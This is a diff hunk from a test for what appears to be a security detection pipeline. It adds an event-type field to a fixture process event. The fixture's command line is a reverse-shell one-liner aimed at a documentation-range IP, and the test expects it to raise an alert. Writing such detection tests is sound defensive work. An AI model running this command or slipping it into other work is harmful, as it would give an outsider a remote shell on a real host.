@@ -266,7 +266,7 @@ def test_setup_adds_the_stage_and_metrics() -> None:
     assert engine is not None and ctx.pipeline.stages == [engine]
     assert engine.limits.throttle == 60 and engine.limits.heartbeat_interval == 10
     batch = [{"@timestamp": "2026-11-23T10:00:00Z",
-              "event": {"dataset": "process", "id": "p1"},
+              "event": {"dataset": "process", "id": "p1", "type": ["start"]},
               "process": {"command_line": "sh -i >& /dev/tcp/203.0.113.1/80 0>&1"},
               "host": {"hostname": "web-01"}}]
     (alert,) = ctx.pipeline.process(batch)
